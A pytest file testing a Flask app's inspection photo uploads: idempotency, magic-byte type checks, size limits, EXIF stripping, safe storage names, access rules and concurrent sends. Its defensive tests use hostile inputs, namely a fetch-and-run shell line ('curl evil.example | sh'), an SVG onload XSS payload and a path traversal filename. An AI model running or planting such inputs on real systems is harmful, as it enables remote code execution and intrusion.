"""Photo uploads: idempotent by the phone's photo id, real type by magic bytes, size limit,
EXIF stripped except the time, served only to those who may read the inspection."""

import io
import threading
import uuid
from concurrent.futures import ThreadPoolExecutor

import pytest
from PIL import Image
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.extensions import db
from app.models import Photo
from tests.offline_helpers import YONGAN, camera_exif, jpeg_bytes, payload


@pytest.fixture
def stored(seeded, client, make_user, auth_headers):
    """An inspector of 永安镇 with one stored inspection."""
    inspector = make_user("inspector", township=YONGAN)
    headers = auth_headers(inspector, lang="en")
    body = payload()
    assert client.post("/api/v1/inspections", json=body, headers=headers).status_code == 201
    return {"headers": headers, "uuid": body["client_uuid"], "app": seeded}


def upload(
    client, stored, data, photo_id=None, section="sewage", name="photo.jpg", mimetype="image/jpeg"
):
    # Encoded in memory: the test client would spill a body past 500 KB into a temporary file
    # that nothing closes when the app refuses the upload unread (a ResourceWarning).
    boundary, body = encode_multipart(
        {
            "client_photo_id": photo_id or str(uuid.uuid4()),
            "section": section,
            "photo": FileStorage(io.BytesIO(data), filename=name, content_type=mimetype),
        }
    )
    return client.post(
        f"/api/v1/inspections/{stored['uuid']}/photos",
        data=body,
        headers=stored["headers"],
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def photo_rows(app):
    with app.app_context():
        return db.session.scalar(db.select(db.func.count()).select_from(Photo))


def test_upload_is_stored_once_however_often_it_is_sent(client, stored):
    photo_id, data = str(uuid.uuid4()), jpeg_bytes()
    first = upload(client, stored, data, photo_id)
    again = upload(client, stored, data, photo_id)
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json["id"] == again.json["id"]
    assert (first.json["width"], first.json["height"]) == (64, 48)
    assert photo_rows(stored["app"]) == 1
    other = upload(client, stored, jpeg_bytes(colour=(0, 0, 255)), photo_id)
    assert other.status_code == 409
    listed = client.get(f"/api/v1/inspections/{stored['uuid']}/photos", headers=stored["headers"])
    assert [p["client_photo_id"] for p in listed.json["photos"]] == [photo_id]


def test_a_script_named_jpg_is_refused_and_nothing_stored(client, stored):
    answer = upload(client, stored, b"#!/bin/sh\ncurl evil.example | sh\n", name="holiday.jpg")
    assert answer.status_code == 415
    assert answer.json["error"]["message"] == "Only JPEG, PNG or WebP photos"
    html = upload(
        client, stored, b"<svg onload=alert(1)></svg>", name="a.png", mimetype="image/png"
    )
    assert html.status_code == 415
    # JPEG magic bytes followed by garbage: the right start, but not an image.
    broken = upload(client, stored, b"\xff\xd8\xff\xe0" + b"\x00" * 200)
    assert broken.status_code == 422 and "photo" in broken.json["errors"]
    assert photo_rows(stored["app"]) == 0


def test_an_oversized_upload_gets_413(client, stored):
    stored["app"].config["PHOTO_MAX_BYTES"] = 10_000
    big = jpeg_bytes(size=(400, 400))
    noise = Image.effect_noise((400, 400), 80).convert("RGB")
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=95)
    big = out.getvalue()
    assert len(big) > 10_000  # noise does not compress
    assert upload(client, stored, big).status_code == 413
    # Past the whole request limit (MAX_CONTENT_LENGTH, 2 MB) werkzeug refuses it too.
    huge = upload(client, stored, b"\xff\xd8\xff" + b"\x00" * (2 * 1024 * 1024 + 10))
    assert huge.status_code == 413
    assert photo_rows(stored["app"]) == 0


def test_exif_is_stripped_except_the_time(client, stored):
    answer = upload(client, stored, jpeg_bytes(exif=camera_exif()))
    assert answer.status_code == 201
    assert answer.json["taken_at"] == "2026:11:02 09:14:58"
    served = client.get(answer.json["url"], headers=stored["headers"])
    assert served.status_code == 200 and served.mimetype == "image/jpeg"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    exif = Image.open(io.BytesIO(served.data)).getexif()
    assert exif.get_ifd(0x8769).get(0x9003) == "2026:11:02 09:14:58"
    assert exif.get(0x010F) is None and exif.get(0x0110) is None  # maker, model gone
    assert not exif.get_ifd(0x8825)  # no GPS block
    assert b"PhoneMaker" not in served.data


def test_the_stored_name_is_the_servers_own(client, stored):
    answer = upload(client, stored, jpeg_bytes(), name="../../etc/passwd.jpg")
    assert answer.status_code == 201
    with stored["app"].app_context():
        key = db.session.get(Photo, answer.json["id"]).storage_key
    assert "passwd" not in key and ".." not in key and key.endswith(".jpg")


def test_photos_are_refused_outside_scope(client, stored, make_user, auth_headers):
    photo = upload(client, stored, jpeg_bytes())
    other_township = auth_headers(make_user("inspector", township="140225101"))
    viewer = auth_headers(make_user("viewer"))
    lead = auth_headers(make_user("township_lead", township=YONGAN))
    assert client.get(photo.json["url"], headers=other_township).status_code == 404
    assert client.get(photo.json["url"], headers=viewer).status_code == 403
    assert client.get(photo.json["url"], headers=lead).status_code == 200
    assert client.get(photo.json["url"]).status_code == 401
    other = {**stored, "headers": other_township}
    assert upload(client, other, jpeg_bytes()).status_code == 404
    colleague = {**stored, "headers": auth_headers(make_user("inspector", township=YONGAN))}
    assert upload(client, colleague, jpeg_bytes()).status_code == 403
    assert upload(client, stored, jpeg_bytes(), section="nonsense").status_code == 422


def test_the_same_photo_sent_at_once_from_several_threads_is_one_row(app, stored):
    photo_id, data = str(uuid.uuid4()), jpeg_bytes()
    barrier = threading.Barrier(4)

    def send(_):
        client = app.test_client()
        barrier.wait()
        return upload(client, stored, data, photo_id).status_code

    with ThreadPoolExecutor(max_workers=4) as pool:
        statuses = sorted(pool.map(send, range(4)))
    assert statuses == [200, 200, 200, 201]  # one stored it; the others got it back
    assert photo_rows(stored["app"]) == 1
